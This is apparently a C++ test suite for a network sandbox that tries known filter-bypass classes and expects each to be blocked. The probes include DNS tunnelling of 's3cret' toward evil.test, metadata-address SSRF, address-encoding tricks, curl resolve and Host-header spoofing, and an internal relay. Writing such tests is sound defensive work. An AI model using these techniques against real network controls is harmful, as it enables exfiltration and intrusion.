// Known ways around network filters, tried by boxes that hold a grant: the classes of attack are
// those of tests/escape, by their numbers. Class 45, reloads, is tests/serve/test_reload.py.
#include "support/box_test.h"
#include "support/servers.h"

#include <algorithm>
#include <fstream>
#include <set>

namespace glovebox::test {
namespace {

using testing::HasSubstr;
using testing::Not;

class Classes : public BoxTest {
 protected:
  void SetUp() override {
    BoxTest::SetUp();
    dns_.set("api.test", {"127.50.0.1"});
  }
  Words granting(const Words& terms) const {
    Words words{"--resolver", dns_.where()};
    for (const std::string& term : terms) words.insert(words.end(), {"--allow", term});
    return words;
  }
  Words granting_api() const {
    return granting({"connect=api.test:" + granted_.port(), "connect=" + granted_.where()});
  }
  Outcome python(const Words& words, const std::string& script) {
    return run(words, {"/usr/bin/python3", "-c", script});
  }

  DnsServer dns_{"127.50.0.53"};
  TcpServer granted_{"127.50.0.1", http_hello()};
  TcpServer other_{"127.50.0.2", canary()};
};

// What Landlock does not see of the network is shut by the empty network namespace.
TEST_P(Classes, C22DatagramsAndPingsGoNowhereAndAreNamed) {
  const Words ways[] = {{"send_udp", "192.0.2.1", "53"},
                        {"connect_udp", "192.0.2.1", "53"},
                        {"send_message", "192.0.2.1", "53"},
                        {"send_message", "192.0.2.1", "53", "many"}};
  for (const Words& way : ways) {
    const Outcome outcome = probe(granting_api(), way);
    EXPECT_THAT(outcome, ended_with(ENETUNREACH)) << way.front() << way.size();
    EXPECT_THAT(outcome.err, HasSubstr("denied: send datagrams to 192.0.2.1:53: no capability "
                                       "grants datagrams; names are looked up through 127.0.0.1"))
        << way.front() << way.size();
  }
  EXPECT_THAT(probe(granting_api(), {"send_message", "192.0.2.1", "53", "stream"}),
              ended_with(ENETUNREACH))
      << "not named, and refused";
  EXPECT_THAT(probe(granting_api(), {"socket", "2", "2", "1"}), ended_with(EPROTONOSUPPORT))
      << "ping";
  const Outcome inside = python(granting_api(),
                                "import socket\n"
                                "a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                                "a.bind(('127.0.0.1', 0))\n"
                                "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
                                ".sendto(b'own', a.getsockname())\n"
                                "print(a.recv(9))\n");
  EXPECT_THAT(inside.out, HasSubstr("own"));
  EXPECT_THAT(inside.err, Not(HasSubstr("denied")));
  const Outcome own = probe(granting_api(), {"send_message", "127.0.0.1", "9", "own"});
  EXPECT_THAT(own, ended_with(0));
  EXPECT_THAT(own.err, Not(HasSubstr("denied")));
}

// What programs do with sendmsg(2) beside datagrams goes on as it does outside: descriptors in
// messages, streams, connected datagrams, addresses that a stream has no use for.
TEST_P(Classes, C22MessagesOfOtherKindsGoThrough) {
  const Outcome outcome = python(granting_api(),
                                 "import array, os, socket\n"
                                 "a, b = socket.socketpair()\n"
                                 "r, w = os.pipe()\n"
                                 "socket.send_fds(a, [b'x'], [w])\n"
                                 "os.write(socket.recv_fds(b, 1, 1)[1][0], b'passed')\n"
                                 "print(os.read(r, 9))\n"
                                 "s = socket.create_server(('127.0.0.1', 0))\n"
                                 "c = socket.create_connection(s.getsockname())\n"
                                 "d, _ = s.accept()\n"
                                 "c.sendmsg([b'one', b'two'])\n"
                                 "print(d.recv(6, socket.MSG_WAITALL))\n"
                                 "c.sendmsg([b'three'], [], 0, ('192.0.2.1', 53))\n"
                                 "print(d.recv(5, socket.MSG_WAITALL))\n"
                                 "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                                 "u.bind(('127.0.0.1', 0))\n"
                                 "v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                                 "v.connect(u.getsockname())\n"
                                 "v.sendmsg([b'four'])\n"
                                 "print(u.recv(9))\n"
                                 "try: v.sendmsg([b'x'], [], 0, ('192.0.2.1', 53))\n"
                                 "except OSError as e: print('errno', e.errno)\n");
  EXPECT_THAT(outcome.out, HasSubstr("b'passed'\nb'onetwo'\nb'three'\nb'four'\nerrno 101\n"));
}

TEST_P(Classes, C26AGrantOpensNoOtherFamily) {
  const Outcome outcome = probe(granting_api(), {"socket_sweep"});
  const Words open = lines_after(outcome.out, "open ");
  const std::set<std::string> expected{"1 1", "1 2", "1 5", "2 1", "2 2", "10 1", "10 2"};
  EXPECT_EQ(std::set<std::string>(open.begin(), open.end()), expected);
}

// Every port that a process of this host listens at, on every loopback address it could be reached
// by.
TEST_P(Classes, C41NoListenerOfTheHostIsReachedByAGrantOfEverything) {
  const TcpServer control("127.0.0.1", canary());
  const TcpServer everywhere("0.0.0.0", canary());
  std::string ports;
  std::ifstream table("/proc/net/tcp");
  for (std::string line; std::getline(table, line);) {
    const std::size_t colon = line.find(':', line.find(':') + 1);
    if (colon == std::string::npos || line.find(" 0A ") == std::string::npos) continue;
    ports += std::to_string(std::stoi(line.substr(colon + 1, 4), nullptr, 16)) + ",";
  }
  ASSERT_THAT(ports, HasSubstr(control.port()));
  ASSERT_THAT(ports, HasSubstr(everywhere.port()));
  const Outcome outcome =
      python(granting({"connect=*:*"}),
             "import socket\n"
             "for port in [" +
                 ports +
                 "]:\n"
                 "  for host in ['127.0.0.1', '0.0.0.0', '::1', '::ffff:127.0.0.1']:\n"
                 "    try: socket.create_connection((host, port)); print('in', port)\n"
                 "    except OSError: pass\n"
                 "print('tried')\n");
  EXPECT_EQ(outcome.out, "tried\n");
  EXPECT_EQ(control.visitors() + everywhere.visitors(), 0);
}

TEST_P(Classes, C42NamesAndOddAddressesLeadToNoSpecialPlace) {
  const TcpServer host("127.0.0.1", canary());
  const Words words = granting({"connect=*.test:*"});
  const std::pair<const char*, std::vector<std::string>> answers[] = {
      {"a.test", {"127.0.0.1"}}, {"b.test", {"169.254.169.254"}},
      {"c.test", {"0.0.0.0"}},   {"d.test", {"::ffff:127.0.0.1"}},
      {"e.test", {"::1"}},       {"f.test", {"fd00:ec2::254"}},
      {"g.test", {"10.0.0.1"}},  {"h.test", {"64:ff9b::7f00:1"}},
      {"i.test", {"224.0.0.1"}}, {"j.test", {"::"}},
  };
  for (const auto& [name, addresses] : answers) {
    dns_.set(name, addresses);
    const Outcome outcome = run(
        words, {"curl", "-sS", "-m", "5", std::string("http://") + name + ":" + host.port() + "/"});
    EXPECT_NE(outcome.code, 0) << name;
    EXPECT_NE(outcome.code, 28) << name << ": it fails at once";
  }
  for (const char* typed : {"2130706433", "0x7f000001", "017700000001", "127.1"}) {
    EXPECT_NE(
        run(words, {"curl", "-sS", "-m", "5", std::string("http://") + typed + ":" + host.port()})
            .code,
        0)
        << typed;
  }
  EXPECT_EQ(host.visitors(), 0);
}

// A question as bytes, with labels that no library would send. A dot or NUL in a label is a
// malformed question, code 1; the others are no such name, code 3.
TEST_P(Classes, C43BytesThatAreNoNameAreNotLookedUp) {
  const Outcome outcome = python(
      granting({"connect=api.test:443", "connect=*.zone.test:443"}),
      "import socket, struct\n"
      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
      "for labels in ([b'api.test'], [b'evil\\0', b'zone', b'test'], [b'a b', b'zone', b'test'],\n"
      "    [b'evil.example\\0', b'api', b'test'], [b'x\\r\\n', b'zone', b'test'],\n"
      "    [b'\\xc3\\xa9', b'zone', b'test'], [b'%00', b'zone', b'test'], [b'-x', b'zone', "
      "b'test']):\n"
      "  name = b''.join(bytes([len(x)]) + x for x in labels) + b'\\0'\n"
      "  s.sendto(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1),\n"
      "           ('127.0.0.1', 53))\n"
      "  print('code', s.recv(999)[3] & 15)\n");
  EXPECT_EQ(outcome.out, "code 1\ncode 1\ncode 3\ncode 1\ncode 3\ncode 3\ncode 3\ncode 3\n")
      << outcome.err;
  EXPECT_TRUE(dns_.asked().empty());
}

TEST_P(Classes, C44AnEmptyListGrantsNothing) {
  const std::string policy =
      make_file("empty.yaml", "version: 1\nnet: {connect: [], resolve: []}\n");
  EXPECT_THAT(probe({"--policy", policy}, {"connect_tcp", "192.0.2.1", "80"}),
              ended_with(ENETUNREACH));
  EXPECT_THAT(probe({"--policy", policy}, {"connect_tcp", "127.50.0.1", granted_.port()}),
              ended_with(ECONNREFUSED));
  EXPECT_NE(run({"--policy", policy}, {"getent", "hosts", "api.test"}).code, 0);
  EXPECT_EQ(granted_.visitors(), 0);
}

// Who asks inside makes no difference: the relay has no more than the box.
TEST_P(Classes, C46ARelayInsideReachesNoMore) {
  const Outcome outcome = python(
      granting_api(),
      "import socket, threading\n"
      "relay = socket.create_server(('127.0.0.1', 0))\n"
      "def serve():\n"
      "  for target in (('127.50.0.2', " +
          other_.port() +
          "), ('192.0.2.1', 80),\n"
          "                 ('127.50.0.1', " +
          granted_.port() +
          ")):\n"
          "    c, _ = relay.accept()\n"
          "    try: socket.create_connection(target); c.sendall(b'through')\n"
          "    except OSError as e: c.sendall(b'refused')\n"
          "    c.close()\n"
          "threading.Thread(target=serve).start()\n"
          "for _ in range(3): print(socket.create_connection(relay.getsockname()).recv(99))\n");
  EXPECT_EQ(outcome.out, "b'refused'\nb'refused'\nb'through'\n") << outcome.err;
  EXPECT_EQ(other_.visitors(), 0);
}

// The name in a request or a handshake is the program's word, and counts for nothing.
TEST_P(Classes, C47ANameThatIsOnlySaidOpensNoOtherAddress) {
  const std::string port = other_.port();
  const Words words = granting({"connect=api.test:*", "connect=" + granted_.where()});
  const Words ways[] = {
      {"--resolve", "api.test:" + port + ":127.50.0.2", "http://api.test:" + port},
      {"--connect-to", "::127.50.0.2:" + port, "http://api.test:" + port},
      {"-H", "Host: api.test", "http://127.50.0.2:" + port},
      {"-k", "--resolve", "api.test:443:192.0.2.1", "https://api.test"}};
  for (const Words& way : ways) {
    Words command{"curl", "-sS", "-m", "5"};
    command.insert(command.end(), way.begin(), way.end());
    EXPECT_THAT(run(words, command), ended_with(7)) << way.front();
  }
  EXPECT_EQ(other_.visitors(), 0);
}

TEST_P(Classes, C48NamesCarryNothingOut) {
  const Outcome outcome =
      python(granting({"connect=api.test:443", "connect=*.wide.test:443"}),
             "import socket, struct\n"
             "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
             "def ask(name, kind):\n"
             "  labels = b''.join(bytes([len(x)]) + x.encode() for x in name.split('.')) + b'\\0'\n"
             "  s.sendto(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + "
             "struct.pack('>HH', kind, 1),\n"
             "           ('127.0.0.1', 53))\n"
             "  return s.recv(999)[3] & 15\n"
             "for kind in (1, 28, 16, 10, 255, 15, 33):\n"
             "  assert ask('s3cret' * 10 + '.evil.test', kind) == 3\n"
             "for kind in (16, 10, 15, 33): ask('api.test', kind)\n"
             "print(sum(ask(f'x{i}.wide.test', 1) == 2 for i in range(1000)) > 500)\n");
  EXPECT_EQ(outcome.out, "True\n") << outcome.err;
  const auto asked = dns_.asked();
  EXPECT_TRUE(std::ranges::all_of(
      asked, [](const std::string& name) { return name.ends_with(".wide.test"); }));
  // 200 at once and 50 a second; asking takes the box less than three seconds.
  EXPECT_LE(asked.size(), 400U);
}

BOX_TEST_TIERS(Classes);

}  // namespace
}  // namespace glovebox::test
